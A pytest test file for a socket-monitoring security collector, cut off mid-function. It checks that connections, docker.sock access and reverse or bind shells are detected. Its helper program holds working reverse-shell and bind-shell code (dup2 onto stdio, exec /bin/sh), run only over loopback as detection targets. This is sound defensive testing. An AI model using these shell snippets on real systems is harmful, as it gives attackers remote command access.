"""The socket source (collectors/sockets.py), in-process, against real sockets, processes and namespaces.

Everything is staged for real over loopback (or in network and mount
namespaces created here): listeners, connections, UDP, a fake docker.sock
inside a private mount namespace (the host's /run is never touched), a real
reverse shell and a bind shell, and their benign look-alikes. The process
table is filled by the real polling process source running alongside.

The host's network namespace is shared with whatever else runs on it, so
every assertion is about the sockets and pids staged here.
"""

from __future__ import annotations

import asyncio
import contextlib
import gc
import json
import os
import pty
import re
import socket
import subprocess
import sys
import time
import tracemalloc
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest

from collectors import sockets as sockets_mod
from collectors.events import RuntimeEvent
from collectors.proc_poll import PollingProcessSource
from collectors.process import ProcessCollector
from collectors.sockets import SockDiag, SockDiagCollector, probe, stdio_sockets

ROOT = Path(__file__).resolve().parent.parent

# One helper program for every staged peer: a mode, then its arguments. It
# prints one line per thing the test needs to know (ports, socket inodes) and
# lives until its stdin closes.
CHILD = r"""
import os, select, socket, sys, time
mode, args = sys.argv[1], sys.argv[2:]
fam = {"4": socket.AF_INET, "6": socket.AF_INET6}
def ino(s): return os.fstat(s.fileno()).st_ino
def say(*a): print(*a, flush=True)
def hold(extra=()):
    # the sockets of ``extra`` that are readable; None once stdin is closed (time to go)
    while True:
        r, _, _ = select.select([sys.stdin, *extra], [], [])
        if sys.stdin in r:
            if not os.read(0, 4096):
                return None
            continue
        return r
if mode == "listen":
    ls = socket.socket(fam[args[0]], socket.SOCK_STREAM)
    ls.bind((args[1], 0)); ls.listen(64)
    say(ls.getsockname()[1], ino(ls))
    held = []
    while hold([ls]):
        c, peer = ls.accept(); held.append(c)
        say("accepted", ino(c), peer[1])
elif mode == "connect":
    s = socket.socket(fam[args[0]], socket.SOCK_STREAM)
    s.connect((args[1], int(args[2])))
    say(s.getsockname()[1], ino(s))
    hold()
elif mode == "udp-bind":
    s = socket.socket(fam[args[0]], socket.SOCK_DGRAM); s.bind((args[1], 0))
    say(s.getsockname()[1], ino(s))
    hold()
elif mode == "udp-connect":
    s = socket.socket(fam[args[0]], socket.SOCK_DGRAM); s.connect((args[1], int(args[2])))
    s.send(b"x")
    say(s.getsockname()[1], ino(s))
    hold()
elif mode == "burst":
    ports = []
    for _ in range(int(args[2])):
        s = socket.create_connection((args[0], int(args[1]))); ports.append(s.getsockname()[1]); s.close()
    say(*ports)
    hold()
elif mode == "http":
    ls = socket.socket(); ls.bind(("127.0.0.1", 0)); ls.listen(16)
    say(ls.getsockname()[1])
    while hold([ls]):
        c, _ = ls.accept(); c.recv(65536)
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"); c.close()
elif mode == "reverse-shell":
    s = socket.create_connection((args[0], int(args[1])))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
elif mode == "bind-shell":
    ls = socket.socket(); ls.bind(("127.0.0.1", 0)); ls.listen(1)
    say(ls.getsockname()[1])
    c, _ = ls.accept(); ls.close()
    for fd in (0, 1, 2):
        os.dup2(c.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
elif mode == "reverse-shell-pair":
    ls = socket.socket(); ls.bind(("127.0.0.1", 0)); ls.listen(1)
    port = ls.getsockname()[1]
    pid = os.fork()
    if pid == 0:
        s = socket.create_connection(("127.0.0.1", port))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.execv("/bin/sh", ["sh", "-i"])
    c, peer = ls.accept()
    c.sendall(b"echo shellready\n")  # reported once the shell answers, not before its exec
    got = b""
    while b"shellready\n" not in got:
        got += c.recv(4096)
    say(pid, port, peer[1])
    hold()
    c.close(); os.waitpid(pid, 0)
elif mode == "unix-listen":
    ls = socket.socket(socket.AF_UNIX); ls.bind(args[0]); ls.listen(8)
    say(ino(ls))
    held = []
    while hold([ls]):
        c, _ = ls.accept(); held.append(c)
        say("accepted", ino(c))
elif mode == "unix-connect":
    s = socket.socket(socket.AF_UNIX); s.connect(args[0])
    say(ino(s))
    hold()
"""


class Child:
    """A staged peer process; ``line()`` reads what it says, ``stop()`` ends it."""

    def __init__(self, proc: asyncio.subprocess.Process) -> None:
        self.proc = proc
        self.pid = proc.pid

    @classmethod
    async def start(cls, mode: str, *args: object, prefix: tuple[str, ...] = ()) -> Child:
        argv = [*prefix, sys.executable, "-c", CHILD, mode, *map(str, args)]
        proc = await asyncio.create_subprocess_exec(
            *argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
        )
        return cls(proc)

    async def line(self, timeout: float = 5.0) -> list[str]:
        assert self.proc.stdout is not None
        raw = await asyncio.wait_for(self.proc.stdout.readline(), timeout)
        assert raw, f"child {self.pid} said nothing (exited with {self.proc.returncode})"
        return raw.decode().split()

    async def stop(self) -> None:
        if self.proc.returncode is None:
            if self.proc.stdin is not None:
                self.proc.stdin.close()
            try:
                await asyncio.wait_for(self.proc.wait(), 5)
            except TimeoutError:
                self.proc.kill()
                await self.proc.wait()


def _ino(s: socket.socket) -> int:
    return os.fstat(s.fileno()).st_ino


class Harness:
    def __init__(self, **kw: Any) -> None:
        self.events: list[RuntimeEvent] = []
        self.processes = ProcessCollector(lambda _e: None, hash_executables=False)
        self.source = PollingProcessSource(self.processes)
        kw.setdefault("interval", 0.05)
        self.sockets = SockDiagCollector(self.events.append, self.processes.table, **kw)
        self.tasks: list[asyncio.Task[None]] = []
        self.children: list[Child] = []

    async def start(self) -> None:
        loop = asyncio.get_running_loop()
        self.tasks.append(loop.create_task(self.source.run()))
        await asyncio.sleep(0.3)  # the process source's first sweep fills the table
        self.tasks.append(loop.create_task(self.sockets.run()))
        await self.until(lambda: self.sockets.stats["polls"] >= 2 and not self.sockets._pending, timeout=10)

    async def stop(self) -> None:
        for child in self.children:
            await child.stop()
        self.sockets.stop()
        self.source.stop()
        for task in self.tasks:
            await asyncio.wait_for(task, 5)
        self.processes.hasher.shutdown()

    async def child(self, mode: str, *args: object, prefix: tuple[str, ...] = ()) -> Child:
        c = await Child.start(mode, *args, prefix=prefix)
        self.children.append(c)
        return c

    async def until(self, cond: Callable[[], object], timeout: float = 5.0) -> None:
        deadline = time.monotonic() + timeout
        while not cond():
            if time.monotonic() > deadline:
                raise AssertionError(f"timed out; stats={self.sockets.snapshot()}\n{self.dump()}")
            await asyncio.sleep(0.02)

    def find(self, kind: str, **fields: Any) -> list[RuntimeEvent]:
        return [e for e in self.events if e.kind == kind and all((e.data or {}).get(k) == v for k, v in fields.items())]

    async def wait_for(self, kind: str, timeout: float = 5.0, **fields: Any) -> RuntimeEvent:
        await self.until(lambda: self.find(kind, **fields), timeout)
        return self.find(kind, **fields)[0]

    async def wait_for_stdio(self, pid: int, name: str, timeout: float = 5.0) -> RuntimeEvent:
        def match() -> list[RuntimeEvent]:
            return [e for e in self.find("process.stdio_socket", pid=pid) if e.process and e.process.name == name]

        await self.until(match, timeout)
        return match()[0]

    def dump(self) -> str:
        lines = []
        for e in self.events[-40:]:
            d = e.data or {}
            who = f"{e.process.pid}/{e.process.name}" if e.process else f"pid={d.get('pid')}"
            keys = ("localIp", "localPort", "remoteIp", "remotePort", "state", "direction", "inode", "socketPath")
            shown = {k: d[k] for k in keys if k in d}
            lines.append(f"{e.kind} {who} {shown}")
        return "\n".join(lines)


@pytest.fixture
async def harness() -> AsyncIterator[Harness]:
    h = Harness()
    await h.start()
    yield h
    await h.stop()


def _pid_of(e: RuntimeEvent) -> int | None:
    return e.process.pid if e.process is not None else None


# -- TCP -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("family", "addr"), [("4", "127.0.0.1"), ("6", "::1")])
async def test_listen_connect_accept_close_attributed(harness: Harness, family: str, addr: str) -> None:
    server = await harness.child("listen", family, addr)
    port, listen_ino = map(int, await server.line())
    client = await harness.child("connect", family, addr, port)
    cport, client_ino = map(int, await client.line())
    _, accepted_ino, peer_port = await server.line()
    af = "AF_INET" if family == "4" else "AF_INET6"

    listen = await harness.wait_for("net.listen", localPort=port, inode=listen_ino)
    assert _pid_of(listen) == server.pid
    assert listen.data is not None
    assert listen.data["direction"] == "LISTEN" and listen.data["state"] == "LISTEN"
    assert listen.data["addressFamily"] == af and listen.data["localIp"] == addr
    assert listen.data["remoteIp"] is None and listen.data["remotePort"] is None

    conn = await harness.wait_for("net.connect", inode=client_ino)
    assert _pid_of(conn) == client.pid
    assert conn.process is not None and CHILD in (conn.process.command_line or "")
    assert conn.data == {
        "protocol": "tcp",
        "addressFamily": af,
        "ianaProtocolNumber": 6,
        "localIp": addr,
        "localPort": cport,
        "remoteIp": addr,
        "remotePort": port,
        "state": "ESTABLISHED",
        "inode": client_ino,
        "uid": os.getuid(),
        "direction": "OUTBOUND",
        "pid": client.pid,
        "v4Mapped": False,
        "initial": False,
        "shortLived": False,
    }

    acc = await harness.wait_for("net.accept", inode=int(accepted_ino))
    assert _pid_of(acc) == server.pid
    assert acc.data is not None
    assert acc.data["direction"] == "INBOUND"
    assert (acc.data["localPort"], acc.data["remotePort"]) == (port, int(peer_port)) == (port, cport)
    # the connection is not also reported as an outbound one from the server's side
    assert not harness.find("net.connect", inode=int(accepted_ino))

    await client.stop()
    closed = await harness.wait_for("net.close", inode=client_ino)
    assert _pid_of(closed) == client.pid
    assert closed.data is not None and closed.data["remotePort"] == port and closed.data["direction"] == "OUTBOUND"
    await server.stop()
    await harness.wait_for("net.close", inode=listen_ino)
    await harness.wait_for("net.close", inode=int(accepted_ino))
    # one event of each kind per socket
    for ino in (client_ino, listen_ino, int(accepted_ino)):
        kinds = [e.kind for e in harness.events if (e.data or {}).get("inode") == ino]
        assert len(kinds) == 2 and kinds[1] == "net.close", kinds
    snap = harness.sockets.snapshot()
    assert snap["polls"] > 2 and snap["sockets_seen"] >= 3 and snap["events_net.connect"] >= 1
    assert snap.get("poll_errors", 0) == 0


async def test_v4_mapped_connection_on_a_dual_stack_listener(harness: Harness) -> None:
    server = await harness.child("listen", "6", "::")
    port, _ = map(int, await server.line())
    client = await harness.child("connect", "4", "127.0.0.1", port)
    cport, client_ino = map(int, await client.line())
    _, accepted_ino, _ = await server.line()
    acc = await harness.wait_for("net.accept", inode=int(accepted_ino))
    assert acc.data is not None
    assert acc.data["addressFamily"] == "AF_INET6" and acc.data["v4Mapped"] is True
    assert (acc.data["localIp"], acc.data["remoteIp"], acc.data["remotePort"]) == ("127.0.0.1", "127.0.0.1", cport)
    conn = await harness.wait_for("net.connect", inode=client_ino)
    assert conn.data is not None and conn.data["addressFamily"] == "AF_INET" and conn.data["v4Mapped"] is False


# -- UDP -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("family", "addr"), [("4", "127.0.0.1"), ("6", "::1")])
async def test_udp_bound_and_connected(harness: Harness, family: str, addr: str) -> None:
    server = await harness.child("udp-bind", family, addr)
    port, server_ino = map(int, await server.line())
    client = await harness.child("udp-connect", family, addr, port)
    cport, client_ino = map(int, await client.line())

    bound = await harness.wait_for("net.udp", inode=server_ino)
    assert _pid_of(bound) == server.pid
    assert bound.data is not None
    assert (bound.data["protocol"], bound.data["ianaProtocolNumber"]) == ("udp", 17)
    assert (bound.data["localPort"], bound.data["remotePort"], bound.data["direction"]) == (port, None, "LISTEN")
    assert bound.data["state"] == "UNCONNECTED"

    conn = await harness.wait_for("net.udp", inode=client_ino)
    assert _pid_of(conn) == client.pid
    assert conn.data is not None
    assert (conn.data["localPort"], conn.data["remoteIp"], conn.data["remotePort"]) == (cport, addr, port)
    assert conn.data["direction"] == "OUTBOUND" and conn.data["state"] == "ESTABLISHED"

    await client.stop()
    gone = await harness.wait_for("net.close", inode=client_ino)
    assert _pid_of(gone) == client.pid and gone.data is not None and gone.data["protocol"] == "udp"


async def test_udp_socket_that_connects_later_is_reported_again(harness: Harness) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with s:
        s.bind(("127.0.0.1", 0))
        ino = _ino(s)
        bound = await harness.wait_for("net.udp", inode=ino)
        assert bound.data is not None and bound.data["direction"] == "LISTEN" and _pid_of(bound) == os.getpid()
        s.connect(("127.0.0.1", 9))
        peer = await harness.wait_for("net.udp", inode=ino, remotePort=9)
        assert peer.data is not None and peer.data["direction"] == "OUTBOUND" and peer.data["state"] == "ESTABLISHED"
        assert _pid_of(peer) == os.getpid()
    await harness.wait_for("net.close", inode=ino)
    assert [e.kind for e in harness.events if (e.data or {}).get("inode") == ino] == ["net.udp", "net.udp", "net.close"]


# -- connections shorter than a poll ---------------------------------------------------------------------


async def test_connections_shorter_than_a_poll_come_from_destroy_events() -> None:
    h = Harness(interval=0.05)
    await h.start()
    try:
        server = await h.child("listen", "4", "127.0.0.1")
        port, _ = map(int, await server.line())
        await asyncio.sleep(0.2)
        h.sockets.interval = 3600.0  # no poll from here on: only the destroy messages can tell
        await asyncio.sleep(0.1)
        polls = h.sockets.stats["polls"]
        burst = await h.child("burst", "127.0.0.1", port, 20)
        ports = set(map(int, await burst.line()))
        await h.until(
            lambda: {(e.data or {}).get("localPort") for e in h.find("net.connect", remotePort=port)} >= ports
        )
        assert h.sockets.stats["polls"] == polls  # no poll saw them
        for e in h.find("net.connect", remotePort=port):
            assert e.data is not None and e.process is None and e.data["pid"] is None
            assert e.data["shortLived"] is True and e.data["inode"] is None and e.data["direction"] == "OUTBOUND"
        assert h.sockets.snapshot()["short_lived"] >= 20
    finally:
        h.sockets.interval = 0.05
        h.sockets.stop()  # wakes run() out of its long wait
        await h.stop()


async def test_curl_like_short_connection_is_reported_without_a_stdio_event(harness: Harness) -> None:
    web = await harness.child("http", "")
    (port,) = map(int, await web.line())
    proc = await asyncio.create_subprocess_exec(
        "curl", "-s", "-o", "/dev/null", f"http://127.0.0.1:{port}/", stdin=subprocess.DEVNULL
    )
    assert await proc.wait() == 0
    ev = await harness.wait_for("net.connect", remotePort=port)
    assert ev.data is not None and ev.data["direction"] == "OUTBOUND"
    # caught by a poll while it lasted, it is curl's, unless curl was gone before its fds could be read
    assert _pid_of(ev) in (proc.pid, None)
    await asyncio.sleep(harness.sockets.stdio_scan_interval * 2)
    assert not [e for e in harness.events if e.kind == "process.stdio_socket" and _pid_of(e) == proc.pid]


# -- Docker / containerd sockets -------------------------------------------------------------------------


def _in_private_run(tmp: Path, *, netns: bool = False) -> tuple[str, ...]:
    """A prefix that runs the command with ``tmp`` mounted on /run in a private mount namespace."""
    unshare = ["unshare", "--mount", "--propagation", "private"] + (["--net"] if netns else [])
    return (*unshare, "sh", "-c", f'mount --bind {tmp} /run && exec "$@"', "sh")


@pytest.mark.parametrize("path", ["/var/run/docker.sock", "/run/containerd/containerd.sock"])
async def test_docker_socket_connection_attributed_to_the_client(harness: Harness, tmp_path: Path, path: str) -> None:
    run = tmp_path / "run"
    (run / "containerd").mkdir(parents=True)
    daemon = await harness.child("unix-listen", path, prefix=_in_private_run(run))
    (daemon_ino,) = map(int, await daemon.line())
    assert not Path("/run/docker.sock").exists() or Path("/run/docker.sock").stat().st_ino != daemon_ino
    client = await harness.child("unix-connect", path, prefix=_in_private_run(run))
    (client_ino,) = map(int, await client.line())
    _, server_end = await daemon.line()
    # a look-alike: another unix socket of the same kind, not a container runtime's
    other = await harness.child("unix-listen", str(tmp_path / "app.sock"))
    await other.line()
    other_client = await harness.child("unix-connect", str(tmp_path / "app.sock"))
    (other_ino,) = map(int, await other_client.line())

    ev = await harness.wait_for("net.unix_connect", inode=client_ino)
    assert _pid_of(ev) == client.pid
    assert ev.data is not None
    assert ev.data["socketPath"] == path and ev.data["peerInode"] == int(server_end)
    assert ev.data["addressFamily"] == "AF_UNIX" and ev.data["pid"] == client.pid
    await asyncio.sleep(0.3)
    assert not harness.find("net.unix_connect", inode=other_ino)
    assert len(harness.find("net.unix_connect", inode=client_ino)) == 1


async def test_docker_socket_served_from_another_network_namespace(harness: Harness, tmp_path: Path) -> None:
    """docker.sock bind-mounted from an EC2 host: the daemon's end is not in our namespace's dumps."""
    run = tmp_path / "run"
    run.mkdir()
    daemon = await harness.child("unix-listen", "/var/run/docker.sock", prefix=_in_private_run(run, netns=True))
    await daemon.line()
    client = await harness.child("unix-connect", "/var/run/docker.sock", prefix=_in_private_run(run))
    (client_ino,) = map(int, await client.line())
    ev = await harness.wait_for("net.unix_connect", inode=client_ino)
    assert _pid_of(ev) == client.pid
    assert ev.data is not None and ev.data["socketPath"] == "/var/run/docker.sock"
    # connect() made the daemon's end of this connection in the client's namespace: it is in our dump
    assert ev.data["peerInode"] in harness.sockets._unix


# -- stdio on sockets: reverse and bind shells, and what only looks like one ----------------------------------


async def _shell_pid(conn: socket.socket) -> int:
    """Ask the shell on the other end of ``conn`` for its pid (it is a real, working shell)."""
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(conn, b"echo shellpid:$$\n")
    data = b""
    while (m := re.search(rb"shellpid:(\d+)\r?\n", data)) is None:
        chunk = await asyncio.wait_for(loop.sock_recv(conn, 4096), 5)
        assert chunk, data
        data += chunk
    return int(m.group(1))


async def test_reverse_shell(harness: Harness) -> None:
    loop = asyncio.get_running_loop()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    shell = await harness.child("reverse-shell", "127.0.0.1", port)
    conn, (_, shell_port) = await asyncio.wait_for(loop.sock_accept(listener), 5)
    with conn, listener:
        assert await _shell_pid(conn) == shell.pid

        stdio = harness.sockets.stdio_sockets(shell.pid)
        assert set(stdio) == {0, 1, 2}
        for fd, entry in stdio.items():
            assert entry["fd"] == fd and entry["type"] == "socket" and entry["network"] is True
            assert entry["protocol"] == "tcp" and entry["addressFamily"] == "AF_INET"
            assert (entry["remoteIp"], entry["remotePort"]) == ("127.0.0.1", port)
            assert (entry["localPort"], entry["state"], entry["direction"]) == (shell_port, "ESTABLISHED", "OUTBOUND")
        assert stdio_sockets(shell.pid)[0]["remotePort"] == port  # the same without a running collector

        # The shell's image. (The python that connected may have its own event too, if a check
        # fell between its dup2 and its exec: its stdio was the socket then; never the shell's fds
        # under the python's image, which the exec check prevents.)
        ev = await harness.wait_for_stdio(shell.pid, "sh")
        assert ev.process is not None and ev.process.pid == shell.pid
        assert ev.data is not None
        assert (ev.data["remoteIp"], ev.data["remotePort"], ev.data["localPort"]) == ("127.0.0.1", port, shell_port)
        assert ev.data["socketFds"] == [0, 1, 2] and ev.data["direction"] == "OUTBOUND"
        assert ev.data["inode"] == stdio[0]["inode"] and ev.data["protocol"] == "tcp"
        assert [f["fd"] for f in ev.data["fds"]] == [0, 1, 2]
        # a command typed into the shell inherits the socket: the shell is what is reported, not the command
        inherited = harness.sockets.stats["stdio_inherited"]
        await loop.sock_sendall(conn, b"sleep 2\n")
        await harness.until(lambda: harness.sockets.stats["stdio_inherited"] > inherited)
        assert {e.process.pid for e in harness.find("process.stdio_socket") if e.process} & {shell.pid} == {shell.pid}
        assert not [e for e in harness.find("process.stdio_socket") if e.process and e.process.name == "sleep"]
        # the connection itself was reported too, owned by the same pid
        conn_ev = await harness.wait_for("net.connect", inode=stdio[0]["inode"])
        assert _pid_of(conn_ev) == shell.pid
        # reported once per process image, not on every re-check
        await asyncio.sleep(harness.sockets.stdio_recheck_interval + 0.3)
        images = [e.process.uuid for e in harness.find("process.stdio_socket", pid=shell.pid) if e.process]
        assert len(images) == len(set(images)) and ev.process.uuid in images
        json.dumps(ev.to_json())  # serializable as is (orjson path too)
        ev.to_bytes()


async def test_stdio_event_waits_for_the_image_after_an_exec() -> None:
    """The table still holds the python that connected; the fds are already the shell's: no event for the python."""
    events: list[RuntimeEvent] = []
    processes = ProcessCollector(lambda _e: None, hash_executables=False)
    collector = SockDiagCollector(events.append, processes.table, destroy_events=False)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    go_r, go_w = os.pipe()
    script = (
        "import os, socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1])));"
        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.read(int(sys.argv[2]), 1);"
        "os.execv('/bin/sh', ['sh', '-i'])"
    )
    child = subprocess.Popen(
        [sys.executable, "-c", script, str(listener.getsockname()[1]), str(go_r)], pass_fds=(go_r,)
    )
    try:
        conn, _ = listener.accept()
        deadline = time.monotonic() + 5
        while not os.readlink(f"/proc/{child.pid}/fd/2").startswith("socket:"):
            assert time.monotonic() < deadline
            time.sleep(0.01)
        python = processes.capture(child.pid)
        assert python is not None and python.name.startswith("python")
        os.write(go_w, b"x")
        while not os.readlink(f"/proc/{child.pid}/exe").endswith("sh"):
            assert time.monotonic() < deadline
            time.sleep(0.01)
        collector._check_stdio_one(python)  # stale image, the shell's fds
        assert not [e for e in events if e.kind == "process.stdio_socket"]
        assert collector.stats["stdio_deferred_for_exec"] == 1
        shell = processes.capture(child.pid)
        assert shell is not None and shell.name == "sh" and shell.uuid != python.uuid
        collector._check_stdio_one(shell)
        (ev,) = [e for e in events if e.kind == "process.stdio_socket"]
        assert ev.process is shell and ev.data is not None
        assert ev.data["remotePort"] == listener.getsockname()[1]
        conn.close()
    finally:
        child.kill()
        child.wait()
        for fd in (go_r, go_w):
            os.close(fd)
        listener.close()
        collector.close()


async def test_reverse_shell_in_another_network_namespace(harness: Harness) -> None:
    """A shell whose socket is not in our namespace's dumps (what a host sidecar sees of a container)."""
    pair = await harness.child(
        "reverse-shell-pair", prefix=("unshare", "--net", "sh", "-c", 'ip link set lo up && exec "$@"', "sh")
    )
    shell_pid, port, shell_port = map(int, await pair.line())
    stdio = harness.sockets.stdio_sockets(shell_pid)
    assert stdio[0]["inode"] not in harness.sockets._socks
    for entry in stdio.values():
        assert entry["network"] is True and entry["protocol"] == "tcp" and entry["state"] == "ESTABLISHED"
        assert (entry["remoteIp"], entry["remotePort"], entry["localPort"]) == ("127.0.0.1", port, shell_port)
    ev = await harness.wait_for_stdio(shell_pid, "sh")
    assert ev.data is not None and ev.data["remotePort"] == port and ev.data["socketFds"] == [0, 1, 2]
    # and nothing of it shows in this namespace's socket events
    assert not harness.find("net.connect", localPort=shell_port, remotePort=port)


async def test_bind_shell_is_inbound() -> None:
    h = Harness(stdio_recheck_interval=0.3)
    await h.start()
    try:
        shell = await h.child("bind-shell")
        (port,) = map(int, await shell.line())
        await h.wait_for("net.listen", localPort=port)  # an attacker needs time to find it too
        loop = asyncio.get_running_loop()
        conn = socket.socket()
        conn.setblocking(False)
        await loop.sock_connect(conn, ("127.0.0.1", port))
        with conn:
            assert await _shell_pid(conn) == shell.pid
            ev = await h.wait_for_stdio(shell.pid, "sh")
            assert ev.data is not None and ev.data["direction"] == "INBOUND" and ev.data["localPort"] == port
            assert ev.data["remotePort"] == conn.getsockname()[1]
            assert ev.process is not None and ev.process.name == "sh"
            acc = await h.wait_for("net.accept", localPort=port)
            assert _pid_of(acc) == shell.pid and acc.data is not None and acc.data["direction"] == "INBOUND"
    finally:
        await h.stop()


async def test_a_listener_shorter_than_a_poll_still_makes_its_connection_inbound() -> None:
    """Known only from its destroy message: the port it listened on marks the connection it accepted."""
    h = Harness()
    await h.start()
    try:
        h.sockets.interval = 3600.0
        await asyncio.sleep(0.1)
        ls = socket.socket()
        ls.bind(("127.0.0.1", 0))
        ls.listen(1)
        port = ls.getsockname()[1]
        client = await h.child("connect", "4", "127.0.0.1", port)
        _, client_ino = map(int, await client.line())
        conn, _ = ls.accept()
        ls.close()
        await h.until(lambda: port in h.sockets._recent_listeners)
        h.sockets.poll_once()
        h.sockets.poll_once()
        acc = await h.wait_for("net.accept", inode=_ino(conn))
        assert acc.data is not None and acc.data["direction"] == "INBOUND" and _pid_of(acc) == os.getpid()
        out = await h.wait_for("net.connect", inode=client_ino)
        assert _pid_of(out) == client.pid
        conn.close()
    finally:
        h.sockets.stop()
        await h.stop()


async def test_benign_look_alikes_give_no_stdio_event() -> None:
    h = Harness(stdio_recheck_interval=0.3)
    await h.start()
    loop = asyncio.get_running_loop()
    procs: list[subprocess.Popen[bytes]] = []
    listener = socket.socket()
    try:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        # 1. a shell with a pipe on stdin/stdout, holding a TCP connection on another fd
        held = socket.create_connection(("127.0.0.1", port))
        piped = subprocess.Popen(
            ["sh", "-c", "read x"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, pass_fds=(held.fileno(),),
        )  # fmt: skip
        procs.append(piped)
        # 2. an interactive shell on a terminal
        master, slave = pty.openpty()
        tty_sh = subprocess.Popen(["sh", "-i"], stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
        procs.append(tty_sh)
        os.close(slave)
        # 3. a long-lived client connection of a non-shell process
        client = await h.child("connect", "4", "127.0.0.1", port)
        _, client_ino = map(int, await client.line())
        # positive control: a real reverse shell, started last
        shell = await h.child("reverse-shell", "127.0.0.1", port)
        accepted = []
        for _ in range(3):
            c, _ = await asyncio.wait_for(loop.sock_accept(listener), 5)
            accepted.append(c)
        await h.wait_for("process.stdio_socket", pid=shell.pid)
        await h.wait_for("net.connect", inode=client_ino)
        await asyncio.sleep(0.8)  # more than two re-check rounds for the shells

        benign = {piped.pid, tty_sh.pid, client.pid}
        table = h.processes.table
        for pid in benign:
            info = table.get(pid)
            assert info is not None and info.uuid in h.sockets._stdio_seen, pid  # they were looked at
        assert not [e for e in h.find("process.stdio_socket") if e.data and e.data["pid"] in benign]
        piped_stdio = h.sockets.stdio_sockets(piped.pid)
        assert piped_stdio[0]["type"] == "pipe" and piped_stdio[0]["network"] is False
        assert piped_stdio[1]["type"] == "pipe"
        tty_stdio = h.sockets.stdio_sockets(tty_sh.pid)
        assert tty_stdio[0]["type"] == "tty" and tty_stdio[0]["target"].startswith("/dev/pts/")
        assert all(not e["network"] for e in h.sockets.stdio_sockets(client.pid).values())
        # the shell holding a TCP connection on fd 3 is the owner of that connection
        assert any(_pid_of(e) in (piped.pid, os.getpid()) for e in h.find("net.connect", inode=_ino(held)))
        for c in accepted:
            c.close()
        held.close()
        os.close(master)
    finally:
        listener.close()
        for p in procs:
            p.kill()
            p.wait()
        await h.stop()


# -- races, failures, and staying bounded -----------------------------------------------------------------


async def test_owner_exits_between_the_dump_and_the_fd_read() -> None:
    events: list[RuntimeEvent] = []
    processes = ProcessCollector(lambda _e: None, hash_executables=False)
    collector = SockDiagCollector(events.append, processes.table, destroy_events=False)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    port = listener.getsockname()[1]
    try:
        processes.capture(os.getpid())
        collector.poll_once()
        child = await Child.start("connect", "4", "127.0.0.1", port)
        cport, client_ino = map(int, await child.line())
        assert processes.capture(child.pid) is not None  # in the table, alive
        collector._gen += 1
        collector._collect()  # the dump sees its socket...
        assert client_ino in collector._pending
        child.proc.kill()  # ...and the process is gone before its fds are read
        await child.proc.wait()
        assert processes.table.get(child.pid) is not None  # the table does not know yet
        collector._resolve()
        collector.poll_once()
        collector.poll_once()
        conn = [e for e in events if e.kind == "net.connect" and (e.data or {}).get("inode") == client_ino]
        assert len(conn) == 1 and conn[0].data is not None
        assert conn[0].process is None and conn[0].data["pid"] is None and conn[0].data["localPort"] == cport
        assert [e.kind for e in events if (e.data or {}).get("inode") == client_ino] == ["net.connect", "net.close"]
        snap = collector.snapshot()
        assert snap["fd_scan_gone"] >= 1
        assert snap.get("attribution_misses", 0) + snap.get("attribution_timeouts", 0) >= 1
        assert snap.get("poll_errors", 0) == 0
    finally:
        listener.close()
        collector.close()


async def test_connect_and_exit_storm_does_not_break_the_collector() -> None:
    h = Harness(interval=0.002)
    await h.start()
    try:
        server = await h.child("listen", "4", "127.0.0.1")
        port, _ = map(int, await server.line())
        script = f"import socket,os; s=socket.create_connection(('127.0.0.1',{port})); os._exit(0)"
        for _ in range(4):
            procs = [await asyncio.create_subprocess_exec(sys.executable, "-S", "-c", script) for _ in range(25)]
            for p in procs:
                await p.wait()
        snap = h.sockets.snapshot()
        assert snap.get("poll_errors", 0) == 0 and snap.get("destroy_errors", 0) == 0
        # still following: a connection made now is attributed
        client = await h.child("connect", "4", "127.0.0.1", port)
        _, ino = map(int, await client.line())
        ev = await h.wait_for("net.connect", inode=ino)
        assert _pid_of(ev) == client.pid
    finally:
        await h.stop()


async def test_a_failed_dump_is_counted_and_does_not_close_everything(harness: Harness) -> None:
    server = await harness.child("listen", "4", "127.0.0.1")
    port, listen_ino = map(int, await server.line())
    await harness.wait_for("net.listen", inode=listen_ino)
    diag = harness.sockets._diag
    assert diag is not None
    before = harness.sockets.stats["dump_errors"]
    closes = len(harness.find("net.close"))
    diag._sock.close()  # the netlink socket dies under the collector
    await harness.until(lambda: harness.sockets.stats["dump_errors"] > before)
    await asyncio.sleep(0.2)
    assert not harness.find("net.close", inode=listen_ino)
    assert len(harness.find("net.close")) - closes < 5  # nothing closed for want of an answer (others' churn aside)
    client = await harness.child("connect", "4", "127.0.0.1", port)
    _, ino = map(int, await client.line())
    assert _pid_of(await harness.wait_for("net.connect", inode=ino)) == client.pid  # working again
    assert harness.sockets.stats.get("poll_errors", 0) == 0


def _socket_fds() -> int:
    n = 0
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            n += os.readlink(f"/proc/self/fd/{fd}").startswith("socket:")
    return n


async def test_memory_and_fds_stay_flat_over_many_polls() -> None:
    h = Harness(interval=0.005)
    await h.start()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(128)
    port = listener.getsockname()[1]

    async def churn(rounds: int) -> None:
        for _ in range(rounds):
            pairs = []
            for _ in range(10):
                c = socket.create_connection(("127.0.0.1", port))
                a, _ = listener.accept()
                pairs.append((c, a))
            await asyncio.sleep(0.012)  # long enough for a poll to see them
